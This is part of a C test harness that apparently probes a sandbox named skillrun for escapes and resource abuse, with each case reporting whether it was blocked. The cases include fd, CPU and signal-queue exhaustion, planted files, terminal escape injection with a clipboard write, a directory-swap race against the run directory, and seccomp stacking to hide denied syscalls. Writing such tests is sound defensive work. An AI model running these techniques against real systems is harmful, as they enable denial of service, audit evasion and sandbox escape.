  if (!argv || !s || !big)
    exit(2);
  memset(s, 'A', each - 1);
  s[each - 1] = '\0';
  argv[0] = (char *)"/bin/true";
  for (size_t i = 1; i <= count; i++)
    argv[i] = s;
  argv[count + 1] = NULL;
  errno = 0;
  execv("/bin/true", argv); /* returns only on failure */
  if (errno == E2BIG)
    how(r, "6.4 MiB argv:E2BIG");
  else
    esc(r, "6.4 MiB argv: %s", errno ? ename(errno) : "exec'd");
  memset(big, 'B', 200 * 1024 - 1);
  big[200 * 1024 - 1] = '\0';
  one[0] = (char *)"/bin/true";
  one[1] = big;
  one[2] = NULL;
  errno = 0;
  execv("/bin/true", one);
  if (errno == E2BIG)
    how(r, "200 KiB string:E2BIG");
  else
    esc(r, "200 KiB string: %s", errno ? ename(errno) : "exec'd");
  free(argv);
  free(s);
  free(big);
}

/* fd exhaustion: stops at RLIMIT_NOFILE (ARG is the expected cap). */
static void case_nofile(struct res *r, const char *arg) {
  long cap = atol(arg), n = 0;

  for (;; n++) {
    int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      if (n <= cap)
        how(r, "open:%s after %ld", ename(errno), n);
      else
        esc(r, "%ld fds open (cap %ld)", n, cap);
      return;
    }
    if (n > 1000000) {
      esc(r, "no fd limit");
      return;
    }
  }
}

/* CPU spin: ended by the CPU-seconds limit (RLIMIT_CPU here); the run's
 * exit status says so.  Never returns. */
static void case_cpuspin(struct res *r, const char *arg) {
  volatile unsigned long x = 0;
  (void)r;
  (void)arg;
  printf("cpuspin=STARTED\n");
  fflush(stdout);
  for (;;)
    x++;
}

/* CPU in children the kernel reaps itself: with SIGCHLD ignored no
 * process's times (utime, cutime) ever hold what such a child spent, and a
 * sampler of the tree sees it only while the child lives.  Rounds of two
 * workers, each spinning 0.1 CPU-seconds and exiting, until ARG
 * CPU-seconds are spent: the CPU budget must end the run first. */
static double cpu_seconds(void) {
  struct timespec ts;

  clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void case_cpureap(struct res *r, const char *arg) {
  double want = atof(arg), spent = 0;

  signal(SIGCHLD, SIG_IGN);
  printf("cpureap=STARTED\n");
  fflush(stdout);
  while (spent < want) {
    for (int i = 0; i < 2; i++) {
      pid_t pid = fork();
      if (pid == 0) {
        while (cpu_seconds() < 0.1)
          ;
        _exit(0);
      }
      if (pid < 0) {
        how(r, "fork:%s after %.1f CPU-seconds", ename(errno), spent);
        return;
      }
      spent += 0.1;
    }
    /* SIGCHLD ignored: returns (ECHILD) once both have exited */
    while (wait(NULL) > 0 || errno == EINTR)
      ;
  }
  esc(r, "%.1f CPU-seconds in children the kernel reaped", spent);
}

/* Leaves files named attack-pwned* in every writable place; the host must
 * not see any of them afterwards (checked from outside). */
static void case_plant(struct res *r, const char *arg) {
  static const char *const dirs[] = {"/tmp", "/dev/shm", "/workspace/scratch",
                                     "/var/tmp", "/run"};
  (void)arg;
  for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
    char *p = join(dirs[i], "/attack-pwned");
    int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd >= 0) {
      how(r, "%s planted", p);
      close(fd);
    } else {
      how(r, "%s:%s", p, ename(errno));
    }
    free(p);
  }
}

/* Prints terminal escape sequences (title set, screen clear, OSC 52
 * clipboard write: the "terminal injection through output" family,
 * CVE-2003-0063 xterm title reporting); skillrun must only store them in
 * the logs and never copy them to the caller's terminal or audit raw. */
static void case_ansi(struct res *r, const char *arg) {
  (void)arg;
  fputs("\033]0;pwned\007\033[2J\033]52;c;cHduZWQ=\007\n", stdout);
  fputs("\033]0;pwned\007\033[2J\n", stderr);
  fflush(stdout);
  how(r, "sequences written (checked outside)");
}

/* ------------------------------------------------ host helper modes */

/* Per-user counts a skill shares with its caller (the caller's host uid,
 * through its user namespace): as many inotify instances as it can get
 * (up to 4096), or as many real-time signals queued to itself, blocked,
 * as it can; "held=N:ERRNO" on a line of its own at once, then held ARG
 * seconds while the test looks on the host. */
static void case_inotifyhog(struct res *r, const char *arg) {
  long n = 0;
  int e = 0;

  for (; n < 4096; n++)
    if (inotify_init1(IN_CLOEXEC) < 0) {
      e = errno;
      break;
    }
  printf("inotify_held=%ld:%s\n", n, e ? ename(e) : "none");
  sleep((unsigned)atoi(arg));
  how(r, "held %ld instances", n);
}

static void case_sigqhog(struct res *r, const char *arg) {
  sigset_t set;
  long n = 0;
  int e = 0;

  sigemptyset(&set);
  sigaddset(&set, SIGRTMIN);
  sigprocmask(SIG_BLOCK, &set, NULL);
  for (; n < 1000000; n++)
    if (sigqueue(getpid(), SIGRTMIN, (union sigval){.sival_int = 0}) < 0) {
      e = errno;
      break;
    }
  printf("sigq_held=%ld:%s\n", n, e ? ename(e) : "none");
  sleep((unsigned)atoi(arg));
  how(r, "held %ld signals", n);
}

static int ids(void) {
  uid_t ru, eu, su;
  int setuid0 = setuid(0);
  if (getresuid(&ru, &eu, &su) < 0)
    return 1;
  printf("ids uid=%u euid=%u suid=%u capeff=%llx setuid0=%s\n", ru, eu, su,
         cap_eff(), setuid0 == 0 ? "OK" : ename(errno));
  return 0;
}

static int host_ipc(const char *op, const char *karg) {
  key_t key = (key_t)strtol(karg, NULL, 0);
  struct {
    long mtype;
    char text[8];
  } msg = {1, "bait"};

  if (strcmp(op, "create") == 0) {
    int shmid = shmget(key, 4096, IPC_CREAT | IPC_EXCL | 0666);
    int msqid = msgget(key, IPC_CREAT | IPC_EXCL | 0666);
    int semid = semget(key, 1, IPC_CREAT | IPC_EXCL | 0666);
    char *p;
    if (shmid < 0 || msqid < 0 || semid < 0) {
      perror("create");
      return 1;
    }
    p = shmat(shmid, NULL, 0);
    if (p == (void *)-1)
      return 1;
    strcpy(p, "bait");
    (void)shmdt(p);
    if (msgsnd(msqid, &msg, sizeof(msg.text), 0) < 0 ||
        semctl(semid, 0, SETVAL, 7) < 0)
      return 1;
    printf("%d:%d:%d:%d\n", key, shmid, msqid, semid);
    return 0;
  }
  if (strcmp(op, "check") == 0) {
    int shmid = shmget(key, 0, 0), msqid = msgget(key, 0),
        semid = semget(key, 0, 0);
    struct msqid_ds mds;
    struct shmid_ds sds;
    char *p;
    int bad = 0;
    if (shmid < 0 || msqid < 0 || semid < 0) {
      printf("gone\n");
      return 1;
    }
    p = shmat(shmid, NULL, SHM_RDONLY);
    if (p == (void *)-1 || strcmp(p, "bait") != 0)
      bad = printf("shm changed\n");
    if (p != (void *)-1)
      (void)shmdt(p);
    if (shmctl(shmid, IPC_STAT, &sds) < 0 || sds.shm_nattch != 0)
      bad = printf("shm attached\n");
    if (msgctl(msqid, IPC_STAT, &mds) < 0 || mds.msg_qnum != 1)
      bad = printf("queue changed\n");
    if (semctl(semid, 0, GETVAL) != 7)
      bad = printf("semaphore changed\n");
    return bad ? 1 : 0;
  }
  if (strcmp(op, "remove") == 0) {
    (void)shmctl(shmget(key, 0, 0), IPC_RMID, NULL);
    (void)msgctl(msgget(key, 0), IPC_RMID, NULL);
    (void)semctl(semget(key, 0, 0), 0, IPC_RMID);
    return 0;
  }
  return 2;
}

static int host_mq(const char *op, const char *name) {
  if (strcmp(op, "create") == 0) {
    struct mq_attr a = {.mq_maxmsg = 4, .mq_msgsize = 16};
    mqd_t q = mq_open(name, O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0666, &a);
    if (q == (mqd_t)-1 || mq_send(q, "bait", 4, 0) < 0) {
      perror("mq");
      return 1;
    }
    mq_close(q);
    return 0;
  }
  if (strcmp(op, "check") == 0) {
    struct mq_attr a;
    mqd_t q = mq_open(name, O_RDONLY | O_CLOEXEC);
    if (q == (mqd_t)-1 || mq_getattr(q, &a) < 0 || a.mq_curmsgs != 1) {
      printf("queue gone or changed\n");
      return 1;
    }
    mq_close(q);
    return 0;
  }
  if (strcmp(op, "remove") == 0)
    return mq_unlink(name) < 0 ? 1 : 0;
  return 2;
}

/* An abstract-socket listener on the host: one line per accepted
 * connection appended to FILE; runs until killed. */
static int host_listen_unix(const char *name, const char *file) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  size_t len = strlen(name);
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

  if (fd < 0 || len > sizeof(a.sun_path) - 1)
    return 1;
  memcpy(a.sun_path + 1, name, len);
  if (bind(fd, (struct sockaddr *)&a,
           (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + len)) < 0 ||
      listen(fd, 8) < 0) {
    perror("listen");
    return 1;
  }
  printf("listening\n");
  fflush(stdout);
  for (;;) {
    int c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
    FILE *f;
    if (c < 0)
      continue;
    f = fopen(file, "ae");
    if (f) {
      fputs("connection\n", f);
      fclose(f);
    }
    close(c);
  }
}

/* The racing local user of issue 14, item 1: waits (polling, for at most
 * 30 s) until RUNDIR/staging/metadata.json exists, which skillrun writes
 * last before it launches the sandbox, then renames RUNDIR away and FAKE
 * into its place, so that whatever resolves RUNDIR's path from then on
 * finds the attacker's staging tree.  Prints "swapped" or "missed". */
static int host_swap(const char *rundir, const char *fake) {
  char *probe = join(rundir, "/staging/metadata.json");
  char *moved = join(rundir, ".moved");
  struct timespec nap = {0, 20000};

  for (long i = 0; i < 30L * 1000 * 1000 / 20; i++) {
    if (access(probe, F_OK) == 0) {
      if (rename(rundir, moved) < 0 || rename(fake, rundir) < 0) {
        printf("swap failed: %s\n", ename(errno));
        return 1;
      }
      printf("swapped\n");
      return 0;
    }
    nanosleep(&nap, NULL);
  }
  printf("missed\n");
  return 0;
}

/* Hiding refused calls: a filter the skill stacks on skillrun's answers
 * a call before skillrun's listener hears of it (the kernel takes an
 * errno over a notification, and the newest filter's among equals), so
 * the skill could try bpf, io_uring and the like with no syscall_denied
 * to show for it.  seccomp(2) is refused; so must its older spelling,
 * prctl(PR_SET_SECCOMP), be.  The filter answers bpf EPERM itself and
 * allows the rest; the calls after it are tried either way (the test
 * checks the audit reports them). */
static void case_seccomp_stack(struct res *r, const char *arg) {
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_bpf, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog fp = {sizeof(f) / sizeof(f[0]), f};
  char big[128] = {0};

  (void)arg;
  must_fail(r, "seccomp(SET_MODE_FILTER)",
            syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &fp));
  must_fail(r, "prctl(PR_SET_SECCOMP)",
            prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &fp, 0, 0));
  /* The option is an int: the upper bits do not make it another one. */
  must_fail(r, "prctl(PR_SET_SECCOMP|1<<32)",
            syscall(SYS_prctl, (unsigned long)PR_SET_SECCOMP | (1UL << 32),
                    SECCOMP_MODE_FILTER, &fp, 0, 0));
  must_fail(r, "bpf", syscall(SYS_bpf, 0, big, 48));
}

/* ------------------------------------------------------- dispatch */

static const struct {
  const char *name;
  void (*fn)(struct res *, const char *);
} cases[] = {
    {"host_path", case_host_path},
    {"dotdot", case_dotdot},
    {"proc_root", case_proc_root},
    {"proc_fds", case_proc_fds},
    {"mountinfo", case_mountinfo},
    {"mount_flags", case_mount_flags},
    {"shocker", case_shocker},
    {"chroot", case_chroot},
    {"mount", case_mount},
    {"ro_file", case_ro_file},
    {"ro_dir", case_ro_dir},
    {"proc_exe", case_proc_exe},
    {"oom_adj", case_oom_adj},
    {"nowrite", case_nowrite},
    {"noread", case_noread},
    {"masked_dir", case_masked_dir},
    {"nodev", case_nodev},
    {"mknod", case_mknod},
    {"devpts", case_devpts},
    {"setuid", case_setuid},
    {"capset", case_capset},
    {"suid_exec", case_suid_exec},
    {"fcap_exec", case_fcap_exec},
    {"usr_nosuid", case_usr_nosuid},
    {"ns_create", case_ns_create},
    {"ns_join", case_ns_join},
    {"kernel", case_kernel},
    {"ksm", case_ksm},
    {"seccomp_stack", case_seccomp_stack},
    {"host_pid", case_host_pid},
    {"tiocsti", case_tiocsti},
    {"ttywatch", case_ttywatch},
    {"ldisc", case_ldisc},
    {"fds", case_fds},
    {"signals", case_signals},
    {"env", case_env},
    {"abstract", case_abstract},
    {"unix_path", case_unix_path},
    {"tcp", case_tcp},
    {"raw", case_raw},
    {"sockproto", case_sockproto},
    {"hugetlb", case_hugetlb},
    {"mcast", case_mcast},
    {"flowlabel", case_flowlabel},
    {"prlimit", case_prlimit},
    {"sysv", case_sysv},
    {"mq", case_mq},
    {"forkbomb", case_forkbomb},
    {"memhog", case_memhog},
    {"shmhog", case_shmhog},
    {"semhog", case_semhog},
    {"msghog", case_msghog},
    {"inotifyhog", case_inotifyhog},
    {"sigqhog", case_sigqhog},
    {"zleader", case_zleader},
    {"sockhog", case_sockhog},
    {"sockdip", case_sockdip},
    {"acceptq", case_acceptq},
    {"errq", case_errq},
    {"errq6", case_errq6},
    {"tsopt", case_tsopt},
    {"tscmsg", case_tscmsg},
    {"tcpts", case_tcpts},
    {"zerocopy", case_zerocopy},
    {"dentsock", case_dentsock},
    {"diskfill", case_diskfill},
    {"mkmany", case_mkmany},
    {"logflood", case_logflood},
    {"argv", case_argv},
    {"nofile", case_nofile},
    {"cpuspin", case_cpuspin},
    {"cpureap", case_cpureap},
    {"plant", case_plant},
    {"ansi", case_ansi},
};

/* The caller's own inotify_init1 and a queued real-time signal, on the
 * host: 0 when both work. */
static int host_counts(void) {
  sigset_t set;
  int fd = inotify_init1(IN_CLOEXEC), rc = 0;

  if (fd < 0) {
    printf("inotify_init1: %s\n", ename(errno));
    rc = 1;
  }
  sigemptyset(&set);
  sigaddset(&set, SIGRTMIN);
  sigprocmask(SIG_BLOCK, &set, NULL);
  if (sigqueue(getpid(), SIGRTMIN, (union sigval){.sival_int = 0}) < 0) {
    printf("sigqueue: %s\n", ename(errno));
    rc = 1;
  }
  return rc;
}

int main(int argc, char **argv) {
  if (argc >= 2 && strcmp(argv[1], "ids") == 0)
    return ids();
  if (argc == 2 && strcmp(argv[1], "host-counts") == 0)
    return host_counts();
  if (argc == 4 && strcmp(argv[1], "host-ipc") == 0)
    return host_ipc(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "host-mq") == 0)
    return host_mq(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "host-listen-unix") == 0)
    return host_listen_unix(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "host-swap") == 0)
    return host_swap(argv[2], argv[3]);

  setvbuf(stdout, NULL, _IOLBF, 0);
  for (int i = 1; i < argc; i++) {
    const char *colon = strchr(argv[i], ':');
    size_t len = colon ? (size_t)(colon - argv[i]) : strlen(argv[i]);
    const char *arg = colon ? colon + 1 : "";
    bool found = false;
    struct res r;

    memset(&r, 0, sizeof(r));
    for (size_t c = 0; c < sizeof(cases) / sizeof(cases[0]); c++) {
      if (strlen(cases[c].name) != len ||
          strncmp(cases[c].name, argv[i], len) != 0)
        continue;
      found = true;
      cases[c].fn(&r, arg);
      if (r.esc[0] || r.how[0])
        report(argv[i], &r);
      break;
    }
    if (!found) {
      printf("%s=ESCAPED:unknown case\n", argv[i]);
      return 2;
    }
  }
  return 0;
}
